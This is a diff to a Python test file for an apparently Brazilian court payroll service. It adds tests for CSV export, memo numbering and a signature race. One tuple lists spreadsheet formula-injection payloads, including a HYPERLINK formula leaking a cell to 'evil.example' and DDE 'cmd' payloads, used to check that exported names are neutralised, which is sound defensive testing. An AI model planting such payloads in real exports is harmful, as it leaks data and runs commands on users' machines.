@@ -127,7 +127,7 @@ def test_pag_02_designation_run_and_the_memo_as_json_csv_and_pdf(client, calls):
     assert csv_response.headers["Content-Type"].startswith("text/csv")
     rows = csv_response.body.decode().splitlines() if isinstance(csv_response.body, bytes) \
         else csv_response.body.splitlines()
-    assert any(pid in row and "4417.02" in row for row in rows) and rows[-1].split(";")[5] == "TOTAL"
+    assert any(pid in row and "4417,02" in row for row in rows) and rows[-1].split(";")[5] == "TOTAL"  # decimal comma
     pdf = send(client, "get", "/memorandos/2031-03-cumulacao_juizes/pdf", Accept="application/pdf")
     assert pdf.status_code == 200 and pdf.headers["Content-Type"] == "application/pdf"
     text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.body)).pages)
@@ -396,3 +396,100 @@ def test_pag_10_an_empty_draft_in_between_does_not_hold_the_adjustment(client, s
     assert may == [("450.00", "2041-03")]
     run(client, "2041-04")
     assert [l for l in memo(client, "2041-04-gratificacao_cooperacao")["linhas"] if l["pessoa"] == ana] == []
+
+
+# --- PAG-11: the payroll CSV (pt-BR spreadsheet, no formula injection) and the memo's number -----------------
+
+INJECTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+              "-2+3", "\tSUM(1,2) Ana", "\r=1+1 Bia", "=1+1")
+
+
+def _csv_rows(body) -> list[list[str]]:
+    import csv
+
+    text = body.decode("utf-8") if isinstance(body, bytes) else body
+    assert text.startswith("\ufeff")  # UTF-8 BOM
+    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
+
+
+def test_pag_11_names_arriving_with_the_gratificacao_event_never_start_a_csv_cell_raw(client, service_app):
+    """Seven formula payloads as servant names (registered and carried by CooperationBonusAssessed) reach the
+    CSV neutralised (a leading '); the amounts, negative ones included, stay numbers with a decimal comma."""
+    month = "2035-03"
+    people = []
+    for n, name in enumerate(INJECTIONS):
+        pid = f"sv.inj{n}{suffix()}"
+        response = send(client, "put", f"/pessoas/{pid}", {"nome": name, "tipo": "servidor", "cargo": "servidor",
+                                                           "juizo": "1VC-CBA"}, ADMIN)
+        assert response.status_code == 200, response.body
+        people.append(pid)
+    deliver(service_app, *[CooperationBonusAssessed(
+        apuracao_id=f"{pid}-a", servidor=pid, nome=name, competencia=month, natureza="apuracao", revisao=1,
+        minutos=630, valor_hora=Decimal("45.00"), valor=Decimal("472.50")) for pid, name in zip(people, INJECTIONS)])
+    run(client, month)
+    response = send(client, "get", f"/memorandos/{month}-gratificacao_cooperacao/csv")
+    assert response.status_code == 200
+    rows = _csv_rows(response.body)
+    header, body = rows[0], rows[1:]
+    ours = [r for r in body if r[header.index("matricula")] in people]
+    assert len(ours) == 7
+    for row in body:
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row if c != row[8]), row
+    assert sorted(r[header.index("nome")] for r in ours) == sorted("'" + name for name in INJECTIONS)
+    assert {r[header.index("valor")] for r in ours} == {"472,50"}
+    assert {r[header.index("base")] for r in ours} == {"apuração: 630 min × R$ 45,00/h"}
+    plain = send(client, "get", f"/memorandos/{month}-gratificacao_cooperacao/csv?formato=simples")
+    text = plain.body.decode() if isinstance(plain.body, bytes) else plain.body
+    assert not text.startswith("\ufeff") and text.startswith("memorando,competencia,") and '"472.50"' not in text
+
+
+def test_pag_11_memo_numbers_per_division_and_year_given_at_signature_without_gaps(client):
+    """PAG-11: drafts have no number; each signature takes the next of DIMAG in the year of signature, in order."""
+    for competencia in ("2036-01", "2036-02", "2036-03"):
+        run(client, competencia)
+    drafts = [memo(client, f"{c}-cumulacao_juizes") for c in ("2036-01", "2036-02", "2036-03")]
+    assert all(d["numero"] is None for d in drafts)
+    labels = []
+    for c in ("2036-01", "2036-02", "2036-03"):
+        signed = send(client, "post", f"/memorandos/{c}-cumulacao_juizes/assinatura", auth=PRESIDENCY)
+        assert signed.status_code == 200, signed.body
+        labels.append(json.loads(signed.body)["numero"])
+        year = json.loads(signed.body)["assinado_em"][:4]
+    numbers = [int(label.split("nº ")[1].split("/")[0]) for label in labels]
+    assert numbers == list(range(numbers[0], numbers[0] + 3))
+    assert all(label.endswith(f"/{year} – DIMAG") for label in labels)
+    again = send(client, "post", "/memorandos/2036-01-cumulacao_juizes/assinatura", auth=PRESIDENCY)
+    assert again.status_code == 409 and memo(client, "2036-01-cumulacao_juizes")["numero"] == labels[0]
+    pdf = send(client, "get", "/memorandos/2036-01-cumulacao_juizes/pdf", Accept="application/pdf")
+    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.body)).pages)
+    assert labels[0].replace("–", "-") in text and "Desembargador Carlos Almeida" in text
+    rows = _csv_rows(send(client, "get", "/memorandos/2036-01-cumulacao_juizes/csv").body)
+    assert {r[rows[0].index("numero")] for r in rows[1:]} == {labels[0]}
+
+
+def test_pag_11_a_signature_that_lost_the_race_for_a_number_takes_the_next_one(client, deps, monkeypatch):
+    """Two signatures read the same last number; the second one commits first. The first one's conditional
+    write on the counter fails, it reads again and takes the next number: no duplicate, no gap. (moto does not
+    isolate concurrent transactions of threads, so the race is interleaved by hand at the counter read.)"""
+    run(client, "2037-01")
+    first, second = "2037-01-ferias", "2037-01-diarias"
+    repository = deps.service.repository
+    real = repository.memo_counter
+    reads: list[int] = []
+
+    def racing_read(division, year):
+        read = real(division, year)
+        reads.append(read[1])
+        if len(reads) == 1:  # the first signature has read the counter: the second signs before it commits
+            monkeypatch.setattr(repository, "memo_counter", real)
+            deps.service.sign(second, "presidente")
+            monkeypatch.setattr(repository, "memo_counter", racing_read)
+        return read
+
+    monkeypatch.setattr(repository, "memo_counter", racing_read)
+    signed = deps.service.sign(first, "presidente")
+    assert len(reads) == 2 and reads[1] == reads[0] + 1  # it lost once and read again
+    other = repository.memo_headers_of_month("2037-01")["diarias"]
+    assert (int(other.numero), int(signed.header.numero)) == (reads[0] + 1, reads[0] + 2)
+    assert [memo(client, i)["numero"].split("/")[0] for i in (second, first)] == [
+        f"Memorando nº {reads[0] + 1}", f"Memorando nº {reads[0] + 2}"]
